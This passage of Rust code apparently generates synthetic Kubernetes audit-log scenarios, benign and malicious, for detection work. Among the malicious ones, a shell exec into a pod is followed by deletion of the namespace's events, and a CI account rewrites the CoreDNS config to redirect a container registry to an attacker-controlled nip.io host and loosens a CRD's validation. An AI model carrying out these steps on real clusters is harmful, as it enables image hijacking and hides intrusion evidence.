        .rng
        .random_range(0..engine.cluster.applications.len())];
    let namespace = app.namespace.clone();
    let pod = app.pods[0].name.clone();
    let description = format!("exec into {namespace}/{pod}, then the namespace's events deleted");
    let mut script = begin(
        engine,
        ts,
        scenario,
        severity,
        actor,
        description,
        false,
        ip,
        agent,
    );
    script
        .then(
            0..1,
            Call::resource(actor, "create", r::PODS)
                .namespace(&namespace)
                .name(pod.clone())
                .subresource("exec")
                .query("?command=sh&container=app&stdin=true&stdout=true&tty=true")
                .lasting(4 * MINUTE),
        )
        .then(
            5 * 60_000..8 * 60_000,
            Call::resource(actor, "list", r::EVENTS)
                .namespace(&namespace)
                .query("?limit=500"),
        );
    for _ in 0..3 {
        let event = format!("{pod}.{:x}", script.engine.rng.random::<u64>() >> 4);
        script.then(
            1_000..4_000,
            Call::resource(actor, "delete", r::EVENTS)
                .namespace(&namespace)
                .name(event),
        );
    }
    script.then(
        1_000..4_000,
        Call::resource(actor, "deletecollection", r::EVENTS).namespace(&namespace),
    );
    Some(script.label)
}

fn critical_config(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let actor = engine.cluster.known.ci_deployer;
    let ip = if engine.rng.random_range(0..2) == 0 {
        external_ip(engine)
    } else {
        app_pod_ip(engine, actor)
    };
    let attacker = external_ip(engine);
    let version = engine.next_resource_version();
    let corefile = format!(
        ".:53 {{\n    errors\n    health\n    kubernetes cluster.local in-addr.arpa ip6.arpa {{\n       pods insecure\n       fallthrough in-addr.arpa ip6.arpa\n    }}\n    rewrite name registry.example.com registry.example.com.{attacker}.nip.io\n    forward . /etc/resolv.conf\n    cache 30\n    loop\n    reload\n}}\n"
    );
    let configmap = json!({"kind": "ConfigMap", "apiVersion": "v1", "metadata": {"name": "coredns", "namespace": "kube-system", "resourceVersion": version.to_string()}, "data": {"Corefile": corefile}});
    let crd_patch = json!({"spec": {"versions": [{"name": "v1", "served": true, "storage": true, "schema": {"openAPIV3Schema": {"type": "object", "x-kubernetes-preserve-unknown-fields": true}}}]}});
    let crd = json!({"kind": "CustomResourceDefinition", "apiVersion": "apiextensions.k8s.io/v1", "metadata": {"name": "certificates.cert-manager.io", "resourceVersion": (version + 3).to_string()}, "spec": crd_patch["spec"].clone()});
    let description =
        "CI service account rewrites kube-system/coredns and loosens a CRD's validation"
            .to_string();
    let kube_system = rc("kube-system");
    let mut script = begin(
        engine,
        ts,
        scenario,
        severity,
        actor,
        description,
        false,
        ip,
        None,
    );
    script
        .then(
            0..1,
            Call::resource(actor, "get", r::CONFIGMAPS)
                .namespace(&kube_system)
                .name("coredns"),
        )
        .then(
            10_000..60_000,
            Call::resource(actor, "update", r::CONFIGMAPS)
                .namespace(&kube_system)
                .name("coredns")
                .objects(Some(configmap.clone()), Some(configmap)),
        )
        .then(
            30_000..300_000,
            Call::resource(actor, "patch", r::CUSTOMRESOURCEDEFINITIONS)
                .name("certificates.cert-manager.io")
                .objects(Some(crd_patch), Some(crd)),
        );
    Some(script.label)
}

fn on_call_night(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let human = engine
        .cluster
        .humans
        .iter()
        .position(|human| human.on_call)?;
    let actor = engine.cluster.humans[human].identity;
    let username = engine.cluster.identities[actor].username.clone();
    let label = engine.new_label(
        scenario,
        &username,
        severity,
        format!("{username} on call: paged at night, works from the VPN"),
        true,
    );
    engine.human_session(human, ts, Some(label));
    Some(label)
}

fn namespace_adoption(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let admins = platform_admins(engine);
    let human = *admins.first()?;
    let actor = engine.cluster.humans[human].identity;
    let namespace = engine.cluster.late_namespaces.first()?.clone();
    let team = engine.cluster.teams.len() - 1;
    let group = engine.cluster.teams[team].group.clone();
    let ip = engine.cluster.humans[human].office_ips[0].clone();
    let binding = created_binding(
        engine,
        Some(&namespace),
        &format!("{group}-edit"),
        "ClusterRole",
        "edit",
        Subject::group(&group),
        ts,
    );
    let description =
        format!("namespace {namespace} created for {group}, which starts working in it");
    let mut script = begin(
        engine,
        ts,
        scenario,
        severity,
        actor,
        description,
        true,
        ip,
        None,
    );
    script
        .then(0..1, Call::resource(actor, "create", r::NAMESPACES))
        .then(10_000..60_000, create_binding_call(actor, binding))
        .then(
            10_000..60_000,
            Call::resource(actor, "create", r::RESOURCEQUOTAS).namespace(&namespace),
        );
    let label = script.label;
    let adopted_at = script.at + 30 * MINUTE;
    // The team's developers add the namespace to their usual ones; their first
    // session there is part of the episode.
    let members: Vec<usize> = engine
        .cluster
        .humans
        .iter()
        .enumerate()
        .filter(|(_, human)| human.team == team && human.role == HumanRole::Developer)
        .map(|(index, _)| index)
        .collect();
    for (order, member) in members.into_iter().enumerate() {
        let identity = engine.cluster.humans[member].identity;
        let username = engine.cluster.identities[identity].username.clone();
        let first = engine.new_label(
            scenario,
            &username,
            severity,
            format!("{username} starts working in the new namespace {namespace}"),
            true,
        );
        let session_at = adopted_at + order as i64 * 40 * MINUTE;
        let ip = engine.cluster.humans[member].office_ips[0].clone();
        let mut script = Script {
            engine: &mut *engine,
            at: session_at,
            label: first,
            ip,
            agent: None,
        };
        script
            .then(
                0..1,
                Call::resource(identity, "list", r::PODS)
                    .namespace(&namespace)
                    .query("?limit=500"),
            )
            .then(
                20_000..90_000,
                Call::resource(identity, "create", r::CONFIGMAPS).namespace(&namespace),
            )
            .then(
                20_000..90_000,
                Call::resource(identity, "list", r::DEPLOYMENTS)
                    .namespace(&namespace)
                    .query("?limit=500"),
            );
        engine.cluster.humans[member].adopted_namespace =
            Some((session_at + HOUR, namespace.clone()));
    }
    Some(label)
}

fn role_change(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let admins = platform_admins(engine);
    let human = *admins.get(1).or(admins.first())?;
    let actor = engine.cluster.humans[human].identity;
    let namespace = engine.cluster.teams.first()?.namespaces[0].to_string();
    let existing = engine
        .rbac
        .roles
        .iter()
        .find(|role| {
            role.name == "release-manager" && role.namespace.as_deref() == Some(&namespace)
        })?
        .clone();
    let mut changed = existing.clone();
    changed.rules.push(PolicyRule::resources(
        &["apps"],
        &["deployments/scale"],
        &["patch", "update"],
    ));
    changed.resource_version = engine.next_resource_version();
    let response = super::rbac::RbacState::role_json(&changed);
    let patch = json!({"rules": response["rules"].clone()});
    let mut call = Call::resource(actor, "patch", r::ROLES)
        .namespace(&rc(&namespace))
        .name("release-manager")
        .objects(Some(patch), Some(response));
    call.rbac_effect = Some(RbacEffect::PutRole(changed));
    let ip = engine.cluster.humans[human].office_ips[0].clone();
    let description = format!("Role {namespace}/release-manager gains patch on deployments/scale");
    let mut script = begin(
        engine,
        ts,
        scenario,
        severity,
        actor,
        description,
        true,
        ip,
        None,
    );
    script
        .then(
            0..1,
            Call::resource(actor, "get", r::ROLES)
                .namespace(&rc(&namespace))
                .name("release-manager"),
        )
        .then(20_000..120_000, call);
    Some(script.label)
}

fn kubelet_certificate_rotation(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let node = engine.rng.random_range(0..engine.cluster.nodes.len());
    let (kubelet, ip, node_name) = {
        let node = &engine.cluster.nodes[node];
        (node.identity, node.ip.clone(), node.name.clone())
    };
    let approver = engine.cluster.known.certificate_controller;
    let name = format!("csr-{}", json::name_suffix(&mut engine.rng, 5));
    let pem = format!(
        "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlJQk{}",
        json::name_suffix(&mut engine.rng, 40)
    );
    let spec = json!({"request": pem, "signerName": "kubernetes.io/kube-apiserver-client-kubelet", "usages": ["digital signature", "client auth"], "username": format!("system:node:{node_name}"), "groups": ["system:nodes", "system:authenticated"]});
    let object = json!({"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": {"generateName": "csr-"}, "spec": spec});
    let approved = json!({"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": {"name": name}, "spec": spec,
        "status": {"conditions": [{"type": "Approved", "status": "True", "reason": "AutoApproved", "message": "Auto approving self kubelet client certificate after SubjectAccessReview."}]}});
    let description =
        format!("kubelet {node_name} rotates its client certificate; the CSR approver approves it");
    let control_plane = rc("10.0.0.10");
    let mut script = begin(
        engine,
        ts,
        scenario,
        severity,
        kubelet,
        description,
        true,
        ip,
        None,
    );
    script
        .then(
            0..1,
            Call::resource(kubelet, "create", r::CERTIFICATESIGNINGREQUESTS)
                .objects(Some(object.clone()), Some(object)),
        )
        .then(
            100..900,
            Call::resource(approver, "create", r::SUBJECTACCESSREVIEWS).via_ip(&control_plane),
        )
        .then(
            50..400,
            Call::resource(approver, "update", r::CERTIFICATESIGNINGREQUESTS)
                .name(name.clone())
                .subresource("approval")
                .objects(Some(approved.clone()), Some(approved)),
        )
        .then(
            100..900,
            Call::resource(approver, "update", r::CERTIFICATESIGNINGREQUESTS)
                .name(name.clone())
                .subresource("status"),
        )
        .then(
            500..3_000,
            Call::resource(kubelet, "watch", r::CERTIFICATESIGNINGREQUESTS)
                .query(format!("?fieldSelector=metadata.name%3D{name}&watch=true"))
                .lasting(2 * MICROS_PER_SECOND),
        );
    // Script sets every call's IP to the kubelet's; the approver's calls come
    // from the control plane.
    Some(script.label)
}

fn certificate_renewal(
    engine: &mut Engine,
    ts: i64,
    scenario: &'static str,
    severity: &'static str,
) -> Option<usize> {
    let actor = engine.cluster.known.cert_manager;
    let ip = app_pod_ip(engine, actor);
    let namespace = engine.cluster.teams.first()?.namespaces[0].clone();
    let description = format!("cert-manager renews certificate {namespace}/web-tls");
    let mut script = begin(
        engine,
        ts,
        scenario,
        severity,
        actor,
        description,
        true,
        ip,
        None,
    );
    script
        .then(
            0..1,
            Call::resource(actor, "create", r::CERTIFICATEREQUESTS).namespace(&namespace),
        )
        .then(
            500..3_000,
            Call::resource(actor, "update", r::CERTIFICATEREQUESTS)
                .namespace(&namespace)
                .name(format!("web-tls-{}", 1 + ts % 7))
                .subresource("status"),
        )
        .then(
            2_000..20_000,
            Call::resource(actor, "update", r::SECRETS)
                .namespace(&namespace)
                .name("web-tls"),
        )
        .then(
            500..3_000,
            Call::resource(actor, "update", r::CERTIFICATES)
                .namespace(&namespace)
                .name("web-tls")
                .subresource("status"),
        );
    Some(script.label)
}
